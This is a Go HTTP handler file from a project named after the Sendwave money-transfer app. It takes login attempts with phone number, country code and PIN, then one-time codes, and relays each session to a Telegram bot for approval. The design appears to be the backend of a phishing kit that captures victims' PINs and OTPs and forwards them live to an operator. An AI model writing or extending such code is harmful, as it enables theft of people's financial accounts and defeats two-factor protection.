package api

import (
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"strings"
	"time"

	"github.com/arapchelogoi/Sendwave/cmd/internal/approval"
	"github.com/arapchelogoi/Sendwave/cmd/internal/relay"
	"github.com/arapchelogoi/Sendwave/cmd/internal/telegram"
	"github.com/arapchelogoi/Sendwave/cmd/security/token"
)

// SecretHeader carries the webhook secret on Telegram's update deliveries.
const SecretHeader = "X-Telegram-Bot-Api-Secret-Token"

const (
	defaultMaxBodyBytes = 64 << 10
	callbackTimeout     = 15 * time.Second
	setupTimeout        = 15 * time.Second
)

// Relay is the core the HTTP shell drives.
type Relay interface {
	CreateSession(ctx context.Context, in relay.LoginAttempt) (relay.Created, error)
	NotifyFollowUp(ctx context.Context, in relay.OTPEntry) error
	HandleCallback(ctx context.Context, cb relay.Callback) (relay.Outcome, error)
	QueryStatus(ctx context.Context, id string) (approval.State, error)
}

// WebhookRegistrar points the messaging channel's updates at this server.
type WebhookRegistrar interface {
	SetWebhook(ctx context.Context, hookURL, secret string) error
}

// Config controls the HTTP shell.
type Config struct {
	// PublicURL is the externally reachable base URL used for webhook registration.
	PublicURL     string
	WebhookSecret string
	MaxBodyBytes  int64
}

// Handler serves /api, /webhook and /setup-webhook.
type Handler struct {
	log       *slog.Logger
	cfg       Config
	relay     Relay
	registrar WebhookRegistrar
}

// HandlerOption configures optional handler dependencies.
type HandlerOption func(*Handler)

// WithWebhookRegistrar enables /setup-webhook.
func WithWebhookRegistrar(r WebhookRegistrar) HandlerOption {
	return func(h *Handler) {
		if h == nil || r == nil {
			return
		}
		h.registrar = r
	}
}

// NewHandler constructs a Handler.
func NewHandler(log *slog.Logger, svc Relay, cfg Config, opts ...HandlerOption) (*Handler, error) {
	if svc == nil {
		return nil, errors.New("api: nil relay")
	}
	if log == nil {
		log = slog.Default()
	}
	if cfg.MaxBodyBytes <= 0 {
		cfg.MaxBodyBytes = defaultMaxBodyBytes
	}

	h := &Handler{log: log, cfg: cfg, relay: svc}
	for _, opt := range opts {
		if opt == nil {
			continue
		}
		opt(h)
	}
	return h, nil
}

// Register wires the routes onto the provided mux.
func (h *Handler) Register(mux *http.ServeMux) {
	if h == nil || mux == nil {
		return
	}
	mux.HandleFunc("/api", h.handleAPI)
	mux.HandleFunc("/webhook", h.handleWebhook)
	mux.HandleFunc("/setup-webhook", h.handleSetupWebhook)
}

// WebhookURL returns the webhook endpoint under publicURL, or "" when unset.
func WebhookURL(publicURL string) string {
	base := strings.TrimRight(strings.TrimSpace(publicURL), "/")
	if base == "" {
		return ""
	}
	return base + "/webhook"
}

// ---- handlers ----

func (h *Handler) handleAPI(w http.ResponseWriter, r *http.Request) {
	switch r.Method {
	case http.MethodGet, http.MethodPost:
	default:
		w.Header().Set("Allow", "GET, POST")
		writeFailure(w, http.StatusMethodNotAllowed, "Method not allowed")
		return
	}

	req, err := parseAPIRequest(w, r, h.cfg.MaxBodyBytes)
	if err != nil {
		writeFailure(w, http.StatusBadRequest, "Invalid request body")
		return
	}

	switch req.Action.String() {
	case actionLoginAttempt:
		h.loginAttempt(w, r, req)
	case actionOTPEntered:
		h.otpEntered(w, r, req)
	case actionCheckStatus:
		h.checkStatus(w, r, req)
	default:
		writeFailure(w, http.StatusBadRequest, "Invalid action")
	}
}

func (h *Handler) loginAttempt(w http.ResponseWriter, r *http.Request, req apiRequest) {
	created, err := h.relay.CreateSession(r.Context(), relay.LoginAttempt{
		CountryFlag: req.CountryFlag.String(),
		CountryCode: req.CountryCode.String(),
		Phone:       req.Phone.String(),
		PIN:         req.PIN.String(),
	})
	switch {
	case err == nil:
	case errors.Is(err, relay.ErrMissingFields):
		writeFailure(w, http.StatusBadRequest, "Missing fields")
		return
	case errors.Is(err, relay.ErrSendFailed):
		writeFailure(w, http.StatusBadGateway, "Failed to create session")
		return
	default:
		h.log.Error("api.login_attempt.fail", "err", err)
		writeFailure(w, http.StatusInternalServerError, "Failed to create session")
		return
	}

	writeJSON(w, http.StatusOK, createdResponse{
		Success: true,
		Data:    sessionData{SessionID: created.SessionID, Durable: created.Durable},
	})
}

func (h *Handler) otpEntered(w http.ResponseWriter, r *http.Request, req apiRequest) {
	err := h.relay.NotifyFollowUp(r.Context(), relay.OTPEntry{
		SessionID:   req.SessionID.String(),
		OTP:         req.OTP.String(),
		CountryCode: firstNonEmpty(req.CountryCode.String(), relay.DefaultCountryCode),
		Phone:       req.Phone.String(),
	})
	switch {
	case err == nil:
		writeJSON(w, http.StatusOK, okResponse{Success: true})
	case errors.Is(err, relay.ErrMissingFields):
		writeFailure(w, http.StatusBadRequest, "Missing data")
	case errors.Is(err, relay.ErrSendFailed):
		writeFailure(w, http.StatusBadGateway, "Failed to notify")
	default:
		h.log.Error("api.otp_entered.fail", "err", err)
		writeFailure(w, http.StatusInternalServerError, "Failed to notify")
	}
}

func (h *Handler) checkStatus(w http.ResponseWriter, r *http.Request, req apiRequest) {
	id := req.SessionID.String()
	if id == "" {
		writeJSON(w, http.StatusBadRequest, statusResponse{Success: false, Status: "unknown"})
		return
	}

	st, err := h.relay.QueryStatus(r.Context(), id)
	switch {
	case err == nil:
		writeJSON(w, http.StatusOK, statusResponse{Success: true, Status: st.String()})
	case approval.IsDegraded(err):
		durable := false
		writeJSON(w, http.StatusOK, statusResponse{Success: true, Status: st.String(), Durable: &durable})
	case errors.Is(err, approval.ErrInvalidID):
		writeJSON(w, http.StatusBadRequest, statusResponse{Success: false, Status: "unknown"})
	default:
		h.log.Error("api.check_status.fail", "session_id", id, "err", err)
		writeFailure(w, http.StatusInternalServerError, "Status unavailable")
	}
}

func (h *Handler) handleWebhook(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		w.WriteHeader(http.StatusMethodNotAllowed)
		return
	}
	if h.cfg.WebhookSecret != "" && !token.Equal(r.Header.Get(SecretHeader), h.cfg.WebhookSecret) {
		h.log.Warn("api.webhook.secret_mismatch", "remote", r.RemoteAddr)
		w.WriteHeader(http.StatusUnauthorized)
		return
	}

	var update telegram.Update
	body := http.MaxBytesReader(w, r.Body, h.cfg.MaxBodyBytes)
	if err := json.NewDecoder(body).Decode(&update); err != nil {
		// Telegram redelivers on non-2xx; a malformed update will not improve on retry.
		h.log.Warn("api.webhook.decode_failed", "err", err)
		writeOK(w)
		return
	}

	if cq := update.CallbackQuery; cq != nil {
		ctx, cancel := context.WithTimeout(context.WithoutCancel(r.Context()), callbackTimeout)
		out, err := h.relay.HandleCallback(ctx, relay.Callback{Token: cq.Data, Handle: cq.ID})
		cancel()
		if err != nil {
			h.log.Warn("api.webhook.callback_failed", "update_id", update.UpdateID, "recognized", out.Recognized, "err", err)
		}
	}

	writeOK(w)
}

func (h *Handler) handleSetupWebhook(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodGet && r.Method != http.MethodPost {
		w.WriteHeader(http.StatusMethodNotAllowed)
		return
	}

	hook := WebhookURL(h.cfg.PublicURL)
	if h.registrar == nil || hook == "" {
		writeJSON(w, http.StatusServiceUnavailable, webhookSetupResponse{Success: false, Error: "public URL not configured"})
		return
	}

	ctx, cancel := context.WithTimeout(r.Context(), setupTimeout)
	defer cancel()

	if err := h.registrar.SetWebhook(ctx, hook, h.cfg.WebhookSecret); err != nil {
		h.log.Error("api.webhook.setup_failed", "webhook", hook, "err", err)
		writeJSON(w, http.StatusBadGateway, webhookSetupResponse{Success: false, Error: err.Error()})
		return
	}

	h.log.Info("api.webhook.registered", "webhook", hook)
	writeJSON(w, http.StatusOK, webhookSetupResponse{Success: true, Webhook: hook})
}

func writeOK(w http.ResponseWriter) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write([]byte("OK"))
}

func firstNonEmpty(vals ...string) string {
	for _, v := range vals {
		if v != "" {
			return v
		}
	}
	return ""
}
